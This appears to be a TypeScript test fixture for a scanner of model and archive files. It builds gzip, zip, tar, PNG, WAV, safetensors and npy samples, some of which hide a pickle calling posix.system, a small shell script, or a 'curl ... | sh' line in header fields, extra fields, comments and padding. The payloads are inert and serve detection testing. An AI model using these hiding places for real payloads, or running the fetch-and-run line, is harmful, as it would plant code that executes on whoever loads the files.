import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import type { ScanVerdict } from '../../../src/domain/scan.ts';

/** Containers with something in the room that no reader looks at, and harmless ones that use the same room as they should. */
export interface HidingPlace {
  readonly path: string;
  readonly what: string;
  readonly verdict: ScanVerdict;
  readonly bytes: Uint8Array;
}

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
/** Calls `posix.system('true')`. */
const PICKLE = latin('\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.');
const SCRIPT = latin('#!/bin/sh\ntouch wb-probe\n');
const JSON_TEXT = latin('{"a": 1}');
const HARMLESS = latin('\x80\x02}q\x00.');
const u16 = (...values: readonly number[]): Buffer => {
  const bytes = Buffer.alloc(2 * values.length);
  for (const [index, value] of values.entries()) bytes.writeUInt16LE(value, 2 * index);
  return bytes;
};
const u32 = (...values: readonly number[]): Buffer => {
  const bytes = Buffer.alloc(4 * values.length);
  for (const [index, value] of values.entries()) bytes.writeUInt32LE(value, 4 * index);
  return bytes;
};
const concat = (pieces: readonly Uint8Array[]): Buffer => Buffer.concat(pieces);

// gzip

interface GzipHeader {
  readonly extra?: Buffer;
  readonly name?: Buffer;
  readonly comment?: Buffer;
}

function gzip({ extra, name, comment }: GzipHeader): Buffer {
  const flags = (extra === undefined ? 0 : 4) + (name === undefined ? 0 : 8) + (comment === undefined ? 0 : 16);
  const line = (text: Buffer | undefined): Buffer =>
    text === undefined ? Buffer.alloc(0) : concat([text, Buffer.alloc(1)]);
  return concat([
    Buffer.from([0x1f, 0x8b, 8, flags, 0, 0, 0, 0, 2, 3]),
    extra === undefined ? Buffer.alloc(0) : concat([u16(extra.length), extra]),
    line(name),
    line(comment),
    deflateRawSync(HARMLESS),
    u32(crc32(HARMLESS), HARMLESS.length),
  ]);
}

const subfield = (id: string, data: Buffer): Buffer => concat([latin(id), u16(data.length), data]);

// zip

interface ZipRoom {
  readonly local?: Buffer;
  readonly central?: Buffer;
  readonly comment?: Buffer;
  readonly described?: Buffer;
  readonly endComment?: Buffer;
  /** Extensible data of a zip64 end record. */
  readonly wide?: Buffer;
}

function zip({ local, central, comment, described, endComment, wide }: ZipRoom): Buffer {
  const none = Buffer.alloc(0);
  const name = latin('config.json');
  const sizes = [crc32(JSON_TEXT), JSON_TEXT.length, JSON_TEXT.length];
  const flags = described === undefined ? 0 : 8;
  const extra = local ?? none;
  const member = concat([
    u32(0x04034b50),
    u16(20, flags, 0, 0, 33),
    described === undefined ? u32(...sizes) : u32(0, 0, 0),
    u16(name.length, extra.length),
    name,
    extra,
    JSON_TEXT,
    described ?? none,
  ]);
  const directory = concat([
    u32(0x02014b50),
    u16(20, 20, flags, 0, 0, 33),
    u32(...sizes),
    u16(name.length, (central ?? none).length, (comment ?? none).length, 0, 0),
    u32(0, 0),
    name,
    central ?? none,
    comment ?? none,
  ]);
  const place = u32(directory.length, 0, member.length, 0);
  const record =
    wide === undefined
      ? none
      : concat([
          u32(0x06064b50, 44 + wide.length, 0),
          u16(45, 45),
          u32(0, 0, 1, 0, 1, 0),
          place,
          wide,
          u32(0x07064b50, 0, member.length + directory.length, 0, 1),
        ]);
  const end = [
    u32(0x06054b50),
    u16(0, 0, 1, 1),
    u32(directory.length, member.length),
    u16((endComment ?? none).length),
  ];
  return concat([member, directory, record, ...end, endComment ?? none]);
}

const extraField = (id: number, data: Buffer): Buffer => concat([u16(id, data.length), data]);
const NTFS = concat([u32(0), u16(1, 24), Buffer.alloc(24, 7)]);
const unicode = (of: Buffer, text: Buffer): Buffer => concat([Buffer.from([1]), u32(crc32(of)), text]);
const descriptor = (crc: number): Buffer => u32(0x08074b50, crc, JSON_TEXT.length, JSON_TEXT.length);

// tar

interface TarRoom {
  /** Puts bytes into the header, before its checksum is made. */
  readonly into?: readonly (readonly [at: number, bytes: Buffer])[];
  readonly padding?: Buffer;
  readonly before?: Buffer;
}

const BLOCK = 512;
const block = (bytes: Buffer): Buffer => concat([bytes, Buffer.alloc((BLOCK - (bytes.length % BLOCK)) % BLOCK)]);

function header(name: string, type: string, size: number, into: TarRoom['into'] = []): Buffer {
  const bytes = Buffer.alloc(BLOCK);
  bytes.write(name, 0, 'latin1');
  for (const at of [100, 108, 116]) bytes.write('0000644\0', at, 'latin1');
  bytes.write(`${size.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
  bytes.write('00000000000\0', 136, 'latin1');
  bytes.write(type, 156, 'latin1');
  bytes.write('ustar\x0000root', 257, 'latin1');
  bytes.write('root', 297, 'latin1');
  for (const [at, piece] of into) piece.copy(bytes, at);
  bytes.fill(' ', 148, 156);
  const sum = bytes.reduce((all, byte) => all + byte, 0);
  bytes.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return bytes;
}

function tar({ into = [], padding, before }: TarRoom): Buffer {
  const data = block(JSON_TEXT);
  padding?.copy(data, 100);
  return concat([
    before ?? Buffer.alloc(0),
    header('config.json', '0', JSON_TEXT.length, into),
    data,
    Buffer.alloc(2 * BLOCK),
  ]);
}

function pax(key: string, value: Buffer, behind?: Buffer): Buffer {
  const rest = ` ${key}=`.length + value.length + 1;
  const length =
    [1, 2, 3, 4].map((digits) => digits + rest).find((all, index) => String(all).length === index + 1) ?? 0;
  const record = concat([latin(`${length} ${key}=`), value, latin('\n')]);
  const data = block(record);
  behind?.copy(data, 200);
  return concat([header('PaxHeader', 'x', record.length), data]);
}

// pictures and sounds

const chunk = (name: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(concat([latin(name), data])));
  return concat([length, latin(name), data, sum]);
};
const png = (more: readonly Buffer[], rows: Buffer = deflateSync(Buffer.alloc(2))): Buffer =>
  concat([
    latin('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0])),
    ...more,
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
const riff = (name: string, data: Buffer): Buffer => {
  const padded = data.length % 2 === 0 ? data : concat([data, Buffer.alloc(1)]);
  const format = concat([latin('fmt '), u32(16), u16(1, 1), u32(8000, 8000), u16(1, 8)]);
  const body = concat([
    latin('WAVE'),
    format,
    latin(name),
    u32(data.length),
    padded,
    latin('data'),
    u32(2),
    Buffer.alloc(2),
  ]);
  return concat([latin('RIFF'), u32(body.length), body]);
};

// headers of weights

const safetensors = (filler: string): Buffer => {
  const text = `{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}${filler}`;
  return concat([u32(text.length, 0), latin(text), Buffer.alloc(4)]);
};
const npy = (filler: string): Buffer => {
  const text = `{'descr': '<i8', 'fortran_order': False, 'shape': (1,), }${filler}`;
  return concat([latin('\x93NUMPY\x01\x00'), u16(text.length), latin(text), Buffer.alloc(8)]);
};

function rows(verdict: ScanVerdict, path: string, all: Readonly<Record<string, Uint8Array>>): readonly HidingPlace[] {
  return Object.entries(all).map(([what, bytes]) => ({ path, what, verdict, bytes: new Uint8Array(bytes) }));
}

export const HIDING_PLACES: readonly HidingPlace[] = [
  ...rows('clean', 'm.pkl.gz', {
    'its name and a comment': gzip({ name: latin('m.pkl'), comment: latin('made by run 7\n') }),
    'blocks of dictzip': gzip({ extra: subfield('RA', u16(1, 58315, 1, 20)) }),
  }),
  ...rows('clean', 'm.zip', {
    'times of Windows': zip({ central: extraField(10, NTFS) }),
    'times and owners of Unix': zip({
      local: concat([
        extraField(0x5455, Buffer.alloc(9, 3)),
        extraField(0x7875, Buffer.from([1, 4, 0, 0, 0, 0, 4, 0, 0, 0, 0])),
      ]),
    }),
    'its name in Unicode': zip({ central: extraField(0x7075, unicode(latin('config.json'), latin('config.json'))) }),
    'its comment in Unicode': zip({
      central: extraField(0x6375, unicode(latin('n'), latin('note'))),
      comment: latin('n'),
    }),
    'bytes that align it': zip({ local: extraField(0xd935, concat([u16(4096), Buffer.alloc(90)])) }),
    'room to grow, of Office': zip({ local: extraField(0xa220, concat([u16(0xa028, 64), Buffer.alloc(64)])) }),
    'much room to grow, of Office': zip({ local: extraField(0xa220, concat([u16(0xa028, 512), Buffer.alloc(512)])) }),
    'a descriptor': zip({ described: descriptor(crc32(JSON_TEXT)) }),
    'a descriptor without its mark': zip({ described: descriptor(crc32(JSON_TEXT)).subarray(4) }),
    comments: zip({ comment: latin('a note'), endComment: latin('made by zip 3.0\n') }),
    'a zip64 end record': zip({ wide: Buffer.alloc(0) }),
  }),
  ...rows('clean', 'm.tar', {
    plain: tar({}),
    'times of pax': tar({ before: pax('mtime', latin('1.5')) }),
    'a name of pax': tar({ before: pax('path', latin('a/config.json')) }),
    'a comment of git': tar({ before: pax('comment', latin('0123456789abcdef0123456789abcdef01234567')) }),
    'the mark of star': tar({ into: [[508, latin('tar\0')]] }),
  }),
  ...rows('clean', 'a.png', { 'its program': png([chunk('tEXt', latin('Software\0matplotlib'))]) }),
  ...rows('clean', 'a.wav', { 'its artist': riff('LIST', latin('INFOIART\x04\0\0\0me\0\0')) }),
  ...rows('clean', 'm.safetensors', { 'spaces behind the header': safetensors('    ') }),
  ...rows('clean', 'a.npy', { 'spaces behind the header': npy('      \n') }),

  ...rows('unscannable', 'm.pkl.gz', {
    'a pickle in a field of its header': gzip({ extra: subfield('XX', PICKLE) }),
    'a pickle in the size of a block': gzip({ extra: subfield('BC', PICKLE) }),
    'a script as its name': gzip({ name: SCRIPT }),
    'a program as its comment': gzip({
      comment: latin(concat([latin('\x7fELF'), Buffer.alloc(60, 1)]).toString('base64')),
    }),
  }),
  ...rows('suspicious', 'm.zip', {
    'a pickle for times of Windows': zip({ central: extraField(10, PICKLE) }),
    'reserved bytes of Windows': zip({ local: extraField(10, concat([latin('EVIL'), NTFS.subarray(4)])) }),
    'a pickle as a comment in Unicode': zip({ central: extraField(0x6375, concat([u32(0, 0), PICKLE])) }),
    'a comment in Unicode of none': zip({ central: extraField(0x6375, unicode(latin('n'), latin('note'))) }),
    'a pickle that aligns it': zip({ local: extraField(0xa11e, concat([u16(4), PICKLE, PICKLE])) }),
    'a pickle in room to grow': zip({ local: extraField(0xa220, concat([u16(0xa028, 64), PICKLE])) }),
    'a pickle behind much room to grow': zip({
      local: extraField(0xa220, concat([u16(0xa028, 512), Buffer.alloc(440), PICKLE])),
    }),
    'a pickle as rights of Windows': zip({ local: extraField(0x4453, concat([PICKLE, PICKLE])) }),
    'bytes that are no field': zip({ local: Buffer.from([1, 2, 3]) }),
    'a script as comment of a member': zip({ comment: SCRIPT }),
    'a script as comment of the archive': zip({ endComment: SCRIPT }),
    'a descriptor that tells otherwise': zip({ described: descriptor(5) }),
    'a pickle in the zip64 end record': zip({ wide: PICKLE }),
  }),
  ...rows('unscannable', 'm.tar', {
    'bytes behind the last field': tar({ into: [[500, PICKLE.subarray(0, 12)]] }),
    'a pickle behind the name': tar({ into: [[12, PICKLE]] }),
    'a link of what is none': tar({ into: [[157, PICKLE]] }),
    'a pickle behind the owner': tar({ into: [[262 + 8, PICKLE.subarray(0, 20)]] }),
    'a script as the group': tar({ into: [[297, SCRIPT]] }),
    'a pickle behind the prefix': tar({ into: [[346, PICKLE]] }),
    'a device that is no number': tar({ into: [[329, latin('EVIL')]] }),
    'a time that is no number': tar({ into: [[136, latin('EVIL')]] }),
    'a script as a comment of pax': tar({ before: pax('comment', SCRIPT) }),
    'a pickle as an attribute': tar({ before: pax('SCHILY.xattr.user.x', PICKLE) }),
    'bytes under a key of nobody': tar({ before: pax('VENDOR.x', Buffer.alloc(300, 7)) }),
    'bytes behind records of pax': tar({ before: pax('mtime', latin('1.5'), PICKLE) }),
    'bytes behind a member': tar({ padding: PICKLE }),
    'bytes behind a long name': tar({
      before: concat([
        header('././@LongLink', 'L', 40),
        block(concat([latin('config.json\0'), PICKLE.subarray(0, 28)])),
      ]),
    }),
  }),
  ...rows('unscannable', 'a.png', {
    'rows that are no stream': png([], latin('#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n')),
    'a pickle in a chunk': png([chunk('evIl', PICKLE)]),
    'a script as text': png([chunk('tEXt', concat([latin('Comment\0'), SCRIPT]))]),
    'a pickle as packed text': png([chunk('zTXt', concat([latin('Comment\0\0'), deflateSync(PICKLE)]))]),
    'a pickle as a profile': png([chunk('iCCP', concat([latin('p\0\0'), deflateSync(PICKLE)]))]),
    'rows behind the last': png([], deflateSync(concat([Buffer.alloc(2), PICKLE, PICKLE]))),
    'bytes behind the rows': png([], concat([deflateSync(Buffer.alloc(2)), PICKLE])),
  }),
  ...rows('unscannable', 'a.wav', { 'a pickle in a chunk': riff('JUNK', PICKLE) }),
  ...rows('suspicious', 'm.safetensors', { 'blanks of several kinds': safetensors(' \t  \t\t \n') }),
  ...rows('unscannable', 'a.npy', { 'blanks of several kinds': npy(' \t  \t\t \n') }),
];
